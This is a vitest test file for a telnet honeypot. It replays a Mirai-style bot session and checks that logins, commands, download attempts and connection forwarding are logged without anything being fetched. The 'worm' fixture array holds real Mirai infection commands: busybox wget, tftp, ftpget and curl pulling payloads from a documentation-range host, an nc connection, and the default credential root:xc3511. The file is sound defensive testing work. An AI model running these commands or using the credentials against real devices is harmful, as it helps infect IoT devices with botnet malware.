import { expect, test } from 'vitest';
import { serveDecoy } from '../host.test-suite.ts';
import { talk } from '../talk.test-suite.ts';
import { telnet } from './decoy.ts';
import { TelnetReader } from './options.ts';

/** What a bot of Mirai's kind types after its log-in, in its order; addresses are nobody's. */
const worm = [
  'enable',
  'system',
  'shell',
  'sh',
  '/bin/busybox MIRAI',
  '/bin/busybox ps; /bin/busybox MIRAI',
  "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon",
  '/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
  '/bin/busybox wget http://198.51.100.9:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox ECCHI',
  'curl -O http://198.51.100.9/c.sh; tftp 198.51.100.9 -c get t.sh; busybox ftpget -u a 198.51.100.9 l.sh r.sh',
  '/bin/busybox tftp -g -l dvrHelper -r mirai.mips 198.51.100.9; /bin/busybox nc 198.51.100.9 23',
  "/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > upnp; /bin/busybox chmod 777 upnp; ./upnp telnet.arm7; /bin/busybox IHCCE",
  'exit',
  'exit',
];

test('a log-in is refused, another let in, and a worm goes its way: every step is told, nothing is fetched', async () => {
  const served = await serveDecoy(telnet, { failureDelayMs: 0, accept: 'list', accounts: ['root:xc3511'] });
  try {
    const said = await talk(
      served.port,
      ['root\r\0', 'wrong\r\0', ...['root', 'xc3511', ...worm].map((line) => `${line}\r\n`)],
      { patience: 3000 },
    );
    expect(said).toMatch(
      /Debian GNU\/Linux 12\r\n\S+ login: root\r\nPassword: \r\n\r\nLogin incorrect\r\n\S+ login: root\r\nPassword: \r\n/,
    );
    expect(said).toMatch(/root@\S+:~# /);
    expect(said).not.toContain('wrong');
    for (const answer of ['MIRAI: applet not found', 'ECCHI: applet not found', 'kami/dev', 'No route to host'])
      expect(said).toContain(answer);
    expect(served.of('decoy.login').map(({ user, outcome, fields }) => [user, fields?.password, outcome])).toEqual([
      ['root', 'wrong', 'failure'],
      ['root', 'xc3511', 'success'],
    ]);
    await served.until(({ event_type, fields }) => event_type === 'decoy.command' && fields?.command === 'exit');
    const commands = served.of('decoy.command').map(({ fields }) => fields?.command);
    for (const line of worm) expect(commands).toContain(line);
    expect(served.of('decoy.command').find(({ fields }) => fields?.command === 'system')?.fields).toMatchObject({
      found: false,
      unknown: ['system'],
      mode: 'shell',
    });
    expect(served.of('decoy.download').map(({ fields }) => [fields?.url, fields?.tool])).toEqual([
      ['http://198.51.100.9:80/bins/mirai.arm7', 'busybox wget'],
      ['http://198.51.100.9/c.sh', 'curl'],
      ['tftp://198.51.100.9/t.sh', 'tftp'],
      ['ftp://198.51.100.9/r.sh', 'ftpget'],
      ['tftp://198.51.100.9/mirai.mips', 'tftp'],
    ]);
    expect(served.of('decoy.forward')[0]).toMatchObject({
      outcome: 'denied',
      fields: { kind: 'nc', dst_host: '198.51.100.9', dst_port: 23 },
    });
    // What it dropped by echo is taken, byte for byte.
    const dropped = served.uploads.find(({ name }) => name.endsWith('/upnp'));
    expect(dropped).toMatchObject({ via: 'shell', content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1]) });
    expect(served.facts).toContainEqual({ user: 'root' });
  } finally {
    await served.stop();
  }
});

test('five refusals end it', async () => {
  const served = await serveDecoy(telnet, { failureDelayMs: 0, accept: 'never' });
  try {
    const said = await talk(
      served.port,
      Array.from({ length: 10 }, (_, index) => `${index % 2 === 0 ? 'admin' : 'admin1'}\r\n`),
      { patience: 1000 },
    );
    expect(said.match(/Login incorrect/g)).toHaveLength(5);
    expect(said).toContain('Maximum number of tries exceeded (5)');
  } finally {
    await served.stop();
  }
});

test('negotiation is taken out wherever it is cut', () => {
  const sent = [
    255, 251, 24, 255, 250, 24, 0, 88, 84, 69, 82, 77, 255, 240, 114, 255, 250, 31, 0, 132, 0, 43, 255, 240, 111, 255,
    255, 255, 253, 1, 255, 251, 99, 13, 0, 120, 13, 10,
  ];
  for (const size of [1, 2, 3, 5, 64]) {
    const reader = new TelnetReader();
    const typed: number[] = [];
    const answer: number[] = [];
    for (let at = 0; at < sent.length; at += size) {
      const read = reader.take(Uint8Array.from(sent.slice(at, at + size)));
      typed.push(...read.typed);
      answer.push(...read.answer);
    }
    expect(typed).toEqual([114, 111, 255, 13, 120, 13]);
    expect(answer).toEqual([255, 250, 24, 1, 255, 240, 255, 254, 99]);
    expect(reader.facts).toEqual({ columns: 132, rows: 43, terminal: 'xterm' });
  }
});
